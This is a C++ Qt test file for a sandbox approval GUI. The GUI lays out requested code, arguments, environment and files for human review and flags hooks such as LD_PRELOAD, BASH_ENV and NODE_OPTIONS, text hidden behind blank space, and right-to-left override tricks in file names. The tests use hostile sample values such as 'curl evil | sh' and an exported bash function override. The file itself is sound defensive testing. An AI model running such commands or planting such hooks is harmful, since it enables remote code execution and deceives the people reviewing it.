// SPDX-License-Identifier: GPL-3.0-or-later
#include "gui/requestparts.h"
#include "gui/samples.h"

#include <QtTest>

using namespace Qt::StringLiterals;
using namespace sandtray;
using gui::RequestPart;
using gui::RequestParts;

class RequestPartsTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void showsEveryArgumentOnce();
    void showsCodeThatIsNotTheText();
    void showsAnEnvironmentOfTheWrongType();
    void keepsAValueOnItsLine();
    void alarmsForHooksAndImpossibleNames();
    void namesHooksOfCallSandboxAndSecrets();
    void warnsOfTextBehindBlankSpace_data();
    void warnsOfTextBehindBlankSpace();
    void saysWhenAFileIsCut();
    void measuresWholeFiles();
    void findsDeceptionInThePathOfAFile();
};

namespace {

QString allText(const approval::Request &request)
{
    QString text;
    for (const RequestPart &part : RequestParts::of(request))
        text += part.title + u'\n' + part.code.text() + u'\n';
    return text;
}

const RequestPart &last(const QList<RequestPart> &parts)
{
    return parts.last();
}

}

void RequestPartsTest::showsEveryArgumentOnce()
{
    approval::Request request = test::sampleRequest();
    request.act.arguments = {{u"code"_s, request.text}, {u"stdin"_s, u"STDIN-VALUE"_s},
        {u"context"_s, u"CONTEXT-VALUE"_s}, {u"unheard_of"_s, QJsonObject{{u"deep"_s, u"DEEP-VALUE"_s}}},
        {u"number"_s, 90210}, {u"flag"_s, true}, {u"env"_s, QJsonObject{{u"A"_s, u"ENV-VALUE"_s}}}};

    const QString text = allText(request);

    for (const QString &value : {request.text.trimmed(), u"STDIN-VALUE"_s, u"CONTEXT-VALUE"_s, u"unheard_of"_s,
             u"DEEP-VALUE"_s, u"90210"_s, u"flag: true"_s, u"A=ENV-VALUE"_s})
        QVERIFY2(text.count(value) == 1, qPrintable(value));
}

void RequestPartsTest::showsCodeThatIsNotTheText()
{
    approval::Request request = test::sampleRequest();
    request.act.arguments[u"code"_s] = u"curl evil | sh"_s;

    QVERIFY(allText(request).contains(u"code: curl evil | sh"_s));
    QVERIFY(allText(request).contains(request.text));
}

void RequestPartsTest::showsAnEnvironmentOfTheWrongType()
{
    approval::Request request = test::sampleRequest();
    request.act.arguments[u"env"_s] = u"BASH_ENV=x"_s;
    request.act.arguments[u"stdin"_s] = QJsonObject{{u"a"_s, 1}};

    QVERIFY(allText(request).contains(u"env: BASH_ENV=x"_s));
    QVERIFY(allText(request).contains(u"stdin: {\"a\":1}"_s));
}

void RequestPartsTest::keepsAValueOnItsLine()
{
    approval::Request request = test::sampleRequest();
    request.act.environment = {{u"A"_s, u"1\nB=2"_s}};
    const auto parts = RequestParts::of(request);

    QVERIFY(last(parts).code.text().contains(u"A=1⟦U+000A⟧B=2"_s));
}

void RequestPartsTest::alarmsForHooksAndImpossibleNames()
{
    approval::Request request = test::sampleRequest();
    request.act.environment = {
        {u"BASH_FUNC_ls%%"_s, u"() { evil; }"_s}, {u"LD_PRELOAD"_s, u"x"_s}, {u"PLAIN"_s, u"y"_s}};
    const auto parts = RequestParts::of(request);

    const RequestPart &environment = last(parts);
    QCOMPARE(environment.alarmLines.size(), 2);
    for (int line : environment.alarmLines)
        QVERIFY(!environment.code.lineText(line).contains(u"PLAIN"));
}

void RequestPartsTest::namesHooksOfCallSandboxAndSecrets()
{
    approval::Request request = test::sampleRequest();
    request.act.arguments[u"env"_s] = QJsonObject{{u"NODE_OPTIONS"_s, u"--import=data:x"_s}};
    request.act.environment = {{u"BASH_ENV"_s, u"x"_s}, {u"PLAIN"_s, u"y"_s}};
    request.act.secrets = {u"GIT_TOKEN"_s, u"API_KEY"_s};

    QCOMPARE(RequestParts::hookVariables(request), QStringList({u"BASH_ENV"_s, u"GIT_TOKEN"_s, u"NODE_OPTIONS"_s}));
}

void RequestPartsTest::warnsOfTextBehindBlankSpace_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("warned");
    QTest::newRow("many line feeds") << u"a"_s + QString(30, u'\n') + u"b"_s << true;
    QTest::newRow("many spaces") << u"a"_s + QString(300, u' ') + u"b"_s << true;
    QTest::newRow("nothing behind") << u"a"_s + QString(300, u'\n') << false;
    QTest::newRow("ordinary code") << u"def f():\n\n\n    return 1\n"_s << false;
}

void RequestPartsTest::warnsOfTextBehindBlankSpace()
{
    QFETCH(QString, text);
    approval::Request request = test::sampleRequest();
    request.text = text;

    QTEST(!RequestParts::of(request).first().note.isEmpty(), "warned");
}

void RequestPartsTest::saysWhenAFileIsCut()
{
    approval::Request request = test::sampleRequest();
    request.act.files = {{u"/home/sandbox/a.py"_s, approval::FileUnderReview::State::Changed, 5'000'000,
        QByteArray(32, 'a'), "print(1)"}};

    QVERIFY(RequestParts::of(request).at(1).note.contains(u"Only the beginning"_s));
}

void RequestPartsTest::measuresWholeFiles()
{
    approval::Request request = test::sampleRequest();
    request.act.files = {
        {u"/home/sandbox/a.py"_s, approval::FileUnderReview::State::New, 8, QByteArray(32, 'a'), "print(1)"}};
    const RequestPart file = RequestParts::of(request).at(1);

    QCOMPARE(file.bytes, 8);
    QVERIFY(file.note.isEmpty());
    QCOMPARE(file.language, gui::CodeLanguage::Python);
    QCOMPARE(file.state, u"new"_s);
}

void RequestPartsTest::findsDeceptionInThePathOfAFile()
{
    approval::Request request = test::sampleRequest();
    request.act.files = {
        {u"/home/sandbox/\u202egnp.exe"_s, approval::FileUnderReview::State::New, 1, QByteArray(32, 'a'), "x"}};
    const RequestPart file = RequestParts::of(request).at(1);

    QCOMPARE(file.title, u"/home/sandbox/⟦U+202E⟧gnp.exe"_s);
    QCOMPARE(file.findings.bidirectional, 1);
}

QTEST_GUILESS_MAIN(RequestPartsTest)
#include "tst_requestparts.moc"
